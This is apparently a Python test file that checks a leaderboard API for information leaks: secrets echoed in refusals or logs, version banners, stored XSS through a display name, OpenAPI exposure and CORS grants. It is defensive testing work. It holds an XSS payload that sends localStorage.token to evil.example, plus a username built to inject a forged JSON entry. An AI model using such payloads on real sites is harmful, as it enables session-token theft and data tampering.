"""Information leaks: secrets echoed in refusals or logged, version banners, stored
XSS through a display name, OpenAPI recon, CORS grants, and the security headers on
every refusal. See tests/security/conftest.py."""

from __future__ import annotations

import pytest

from tests.helpers import (
    ACTION_SECRET,
    ACTIONS,
    JWT_SECRET,
    UPDATE,
    Api,
    assert_refused,
    bearer,
    clean_log,
    forge_ticket,
    make_token,
    new_user,
    now_iso,
    post_update,
    problem,
    real_client,
)
from tests.live.conftest import StartServer
from tests.security.conftest import AppFactory
from tests.tokens import service_kid


async def test_refusals_echo_no_token_ticket_secret_or_submitted_value(api: Api) -> None:
    attacker = new_user()
    canary = "31337-canary-31337"
    forged_token = make_token(attacker, secret="stolen-looking-secret-0123456789abcdef")
    ticket = forge_ticket(attacker, action_secret="other-action-secret-0123456789abcdefgh")
    before = await api.leaderboard()
    responses = [
        (await post_update(api, ticket, forged_token), 401, "invalid_token"),
        (await post_update(api, ticket, api.token(attacker)), 422, "invalid_action"),
        (
            await api.client.post(
                UPDATE,
                json={"actionId": ticket, "timestamp": canary, "score": canary},
                headers=bearer(api.token(attacker)),
            ),
            400,
            "validation_error",
        ),
    ]
    secrets = [forged_token, ticket, api.token(attacker), JWT_SECRET, ACTION_SECRET, canary]
    for response, status, code in responses:
        await assert_refused(api, response, status, code, before)
        for secret in secrets:
            assert secret not in response.text
        assert service_kid() not in response.text


@pytest.mark.slow
async def test_the_server_logs_no_tokens_and_sends_no_version_banner(
    start_server: StartServer,
) -> None:
    server = start_server()
    attacker = new_user()
    token = make_token(attacker)
    forged = make_token(attacker, secret="stolen-looking-secret-0123456789abcdef")
    ticket = forge_ticket(attacker)
    async with real_client(server) as client:
        api = Api(client)
        responses = [
            await client.post(
                UPDATE, json={"actionId": ticket, "timestamp": now_iso()}, headers=bearer(forged)
            ),
            await client.post(
                UPDATE,
                json={"actionId": "forged.ticket.x", "timestamp": now_iso()},
                headers=bearer(token),
            ),
            await client.get("/api/nope", headers=bearer(token)),
        ]
        expected = [(401, "invalid_token"), (422, "invalid_action"), (404, "not_found")]
        for response, (status, code) in zip(responses, expected, strict=True):
            await assert_refused(api, response, status, code)  # and the board is still empty
    for response in responses:
        assert "server" not in response.headers
        assert "x-powered-by" not in response.headers
    log = clean_log(server)
    for secret in (token, forged, ticket, JWT_SECRET, ACTION_SECRET):
        assert secret not in log


XSS_NAME = '<img src=x onerror="fetch(`//evil.example/`+localStorage.token)">'


async def test_a_script_in_a_display_name_stays_inert_data(api: Api) -> None:
    """Stored XSS through preferred_username: the API returns it as JSON data (nosniff), and
    the page that renders names forbids inline script (it sets textContent, see page.js)."""
    attacker = new_user()
    api.tokens[attacker] = make_token(attacker, username=XSS_NAME)
    await api.score(attacker)
    board = await api.client.get("/api/leaderboard", headers=bearer(api.token("reader")))
    assert board.headers["content-type"] == "application/json"
    assert board.headers["x-content-type-options"] == "nosniff"
    assert board.json()["leaderboard"] == [
        {"userId": attacker, "username": XSS_NAME, "score": 10, "rank": 1}
    ]
    page = await api.client.get("/")
    policy = page.headers["content-security-policy"]
    assert "script-src 'self'" in policy
    assert "unsafe-inline" not in policy
    assert "frame-ancestors 'none'" in policy
    before = await api.leaderboard()
    # The name cannot smuggle a second, fake entry or a score either.
    forged_entry = make_token(attacker, username='x","score":1000000,"rank":1,"userId":"y')
    response = await post_update(api, forge_ticket(attacker), forged_entry)
    assert response.status_code == 200
    assert [(e["userId"], e["score"]) for e in await api.leaderboard()] == [(attacker, 20)]
    assert len(before) == 1


@pytest.mark.one_backend
async def test_openapi_recon_is_closed_when_docs_are_disabled(app_with: AppFactory) -> None:
    async with app_with(openapi=False) as api:
        before = await api.leaderboard()
        for path in ("/schema", "/schema/openapi.json", "/schema/swagger"):
            response = await api.client.get(path)
            await assert_refused(api, response, 404, "not_found", before)


@pytest.mark.one_backend
async def test_a_cors_preflight_from_an_evil_origin_gets_no_grant(app_with: AppFactory) -> None:
    async with app_with(allowed_origins=["https://game.example"]) as api:
        before = await api.leaderboard()
        evil = await api.client.options(
            UPDATE,
            headers={
                "Origin": "https://evil.example",
                "Access-Control-Request-Method": "POST",
                "Access-Control-Request-Headers": "authorization, content-type",
            },
        )
        problem(evil, 400, "cors_refused")
        assert "access-control-allow-origin" not in evil.headers
        assert "access-control-allow-credentials" not in evil.headers
        assert await api.leaderboard() == before
        good = await api.client.options(
            UPDATE,
            headers={"Origin": "https://game.example", "Access-Control-Request-Method": "POST"},
        )
        assert good.status_code in (200, 204)
        assert good.headers["access-control-allow-origin"] == "https://game.example"


@pytest.mark.one_backend
async def test_a_refused_cors_preflight_is_a_problem_document(app_with: AppFactory) -> None:
    """Was an open finding (a text/plain 400 from Litestar's CORS middleware)."""
    async with app_with(allowed_origins=["https://game.example"]) as api:
        response = await api.client.options(
            UPDATE,
            headers={"Origin": "https://evil.example", "Access-Control-Request-Method": "POST"},
        )
        problem(response, 400, "cors_refused")
        assert "access-control-allow-origin" not in response.headers
        allowed = await api.client.options(
            UPDATE,
            headers={"Origin": "https://game.example", "Access-Control-Request-Method": "POST"},
        )
        assert allowed.status_code == 204


async def test_refusals_from_the_auth_and_rate_limit_layers_carry_the_security_headers(
    app_with: AppFactory,
) -> None:
    # A day's window: the sliding-window counter rounds down across a window boundary, so a
    # minute's window lets a fourth request through when the minute turns mid-test.
    async with app_with(rate_limit_ip="3/day", rate_limit_storage="memory://") as api:
        handler_refusal = await api.client.post(
            ACTIONS, json={"type": "nope"}, headers=bearer(api.token("a"))
        )
        bad_token = await api.client.get("/api/leaderboard", headers=bearer("garbage"))
        unknown = await api.client.get("/api/nope")
        await api.client.get("/api/leaderboard", headers=bearer(api.token("a")))
        limited = await api.client.get("/api/leaderboard", headers=bearer(api.token("a")))
        problem(handler_refusal, 422, "unknown_action_type")
        problem(bad_token, 401, "invalid_token")
        problem(unknown, 404, "not_found")
        problem(limited, 429, "rate_limited")
        for response in (handler_refusal, bad_token, unknown, limited):
            assert response.headers.get("x-content-type-options") == "nosniff", response.status_code
            assert response.headers.get("x-frame-options") == "DENY"
            assert response.headers.get("referrer-policy") == "no-referrer"
